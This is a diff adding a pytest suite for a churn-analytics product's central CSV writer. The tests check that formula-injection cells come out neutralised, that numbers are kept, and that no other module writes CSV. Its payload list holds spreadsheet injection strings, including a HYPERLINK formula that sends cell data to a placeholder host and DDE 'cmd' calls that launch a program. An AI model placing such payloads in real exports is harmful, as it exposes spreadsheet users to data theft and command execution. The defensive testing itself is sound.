@@ -1,0 +1,134 @@
+"""The one CSV writer: formula payloads from a CRM export or a form come out inert in every CSV
+the product writes, numbers stay numbers, and no other module writes CSV."""
+
+from __future__ import annotations
+
+import io
+import re
+from pathlib import Path
+
+import pandas as pd
+import pytest
+from typer.testing import CliRunner
+
+from core.csv_out import neutralise_cell, to_csv_text
+
+ROOT = Path(__file__).resolve().parents[2]
+PACKAGES = ["core", "features", "training", "scoring", "kpi", "monitoring", "serving", "reports"]
+PAYLOADS = [
+    '=HYPERLINK("http://x.example/?"&A1,"click")',
+    "+SUM(1+1)*cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)",
+    "\t=1+1",
+    "\r=1+1",
+]
+SHOWN = ["'" + p.replace("\r", "\n") for p in PAYLOADS]
+"""The payloads as a spreadsheet gets them: quoted, a carriage return as a line feed."""
+
+
+def _frame() -> pd.DataFrame:
+    n = len(PAYLOADS)
+    return pd.DataFrame(
+        {
+            "customer_id": PAYLOADS,
+            "segment": pd.Categorical(PAYLOADS),
+            "amount": [-12.5] * n,
+            "count": [-3] * n,
+            "text_number": ["-12.5"] * n,
+            "plain": ["ok"] * n,
+        }
+    )
+
+
+def _check(table: pd.DataFrame) -> None:
+    """Every payload is back with its leading quote; the numbers are untouched."""
+    for col in ("customer_id", "segment"):
+        assert table[col].tolist() == SHOWN
+    assert table["amount"].tolist() == [-12.5] * len(PAYLOADS)
+    assert table["count"].tolist() == [-3] * len(PAYLOADS)
+    assert table["text_number"].astype(str).tolist() == ["-12.5"] * len(PAYLOADS)
+    assert table["plain"].tolist() == ["ok"] * len(PAYLOADS)
+
+
+def _read(source: str | Path) -> pd.DataFrame:
+    text = source if isinstance(source, str) else source.read_text(encoding="utf-8")
+    return pd.read_csv(io.StringIO(text), dtype={"customer_id": str, "segment": str}, sep=",")
+
+
+def test_cells_are_neutralised_and_numbers_kept() -> None:
+    assert neutralise_cell("=1+1") == "'=1+1"
+    assert neutralise_cell("-12.5") == "-12.5" and neutralise_cell("+3e-2") == "+3e-2"
+    assert neutralise_cell("-12.5 EUR") == "'-12.5 EUR"
+    assert neutralise_cell("ok\r=1+1") == "ok\n=1+1"  # quoted by the writer, not a new row
+    assert neutralise_cell(-12.5) == -12.5 and neutralise_cell(None) is None
+    frame = _frame()
+    before = frame.copy()
+    _check(_read(to_csv_text(frame)))
+    pd.testing.assert_frame_equal(frame, before)  # the caller's frame is not changed
+    raw = pd.read_csv(io.StringIO(to_csv_text(frame, for_people=False)), lineterminator="\n")
+    assert raw["customer_id"].tolist() == PAYLOADS  # data for the loaders keeps the raw value
+    indexed = to_csv_text(pd.DataFrame({"v": [1]}, index=pd.Index(["=x"])), index=True)
+    assert indexed.splitlines()[1] == "'=x,1"
+
+
+def test_every_writer_path_neutralises(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    from churn.commands._output import Fmt, Section, emit, write_frame
+    from features.dataset import Dataset
+    from features.loaders import write_rejects
+    from scoring.batch.job import write_list_csv
+
+    frame = _frame()
+    # the at-risk and win-back lists of `churn score`
+    _check(_read(write_list_csv(frame, tmp_path / "at_risk.csv")))
+    # `churn campaign --out` and the other --out files
+    write_frame(frame, tmp_path / "campaign.csv")
+    _check(_read(tmp_path / "campaign.csv"))
+    # --format csv on stdout
+    emit([Section("list", frame, table=None, in_csv=True)], Fmt.csv)  # type: ignore[arg-type]
+    _check(_read(capsys.readouterr().out))
+    # <table>.rejects.csv
+    ds = Dataset(tables={}, as_of=pd.Timestamp("2024-01-01"), rejects={"customers": frame})
+    (path,) = write_rejects(ds, tmp_path / "rejects")
+    _check(_read(path))
+
+
+def test_churn_export_contacts_neutralises_form_text(tmp_path: Path) -> None:
+    from churn.cli import register_commands
+    from scoring.store.contacts import ContactStore
+    from scoring.store.predictions import PredictionStore
+
+    url = f"sqlite:///{tmp_path / 'store.db'}"
+    store = PredictionStore(url)
+    row = {
+        "ts": pd.Timestamp("2024-03-01").to_pydatetime(),
+        "campaign_id": PAYLOADS[0],
+        "channel": "phone",
+        "offer": PAYLOADS[3],
+        "treated": 1,
+        "outcome": "accepted",
+    }
+    ContactStore(store.engine).add(row, PAYLOADS[1], "m1", "lead")
+    store.close()
+    out = tmp_path / "contacts.csv"
+    app = register_commands()
+    result = CliRunner().invoke(app, ["export", "contacts", "--out", str(out), "--store", url])
+    assert result.exit_code == 0, result.output
+    table = pd.read_csv(out, dtype=str)
+    assert table.loc[0, "campaign_id"] == "'" + PAYLOADS[0]
+    assert table.loc[0, "offer"] == "'" + PAYLOADS[3]
+    assert table.loc[0, "customer_id"] == "'" + PAYLOADS[1]
+
+
+def test_only_the_writer_writes_csv() -> None:
+    """``to_csv(`` and ``csv.writer`` appear in the product only inside core/csv_out.py."""
+    pattern = re.compile(r"\.to_csv\(|csv\.writer|csv\.DictWriter")
+    offenders = [
+        f"{path.relative_to(ROOT)}:{n}"
+        for package in [*PACKAGES, "churn"]
+        for path in sorted((ROOT / package).rglob("*.py"))
+        if path.relative_to(ROOT).as_posix() != "core/csv_out.py"
+        for n, line in enumerate(path.read_text(encoding="utf-8").splitlines(), 1)
+        if pattern.search(line)
+    ]
+    assert offenders == []
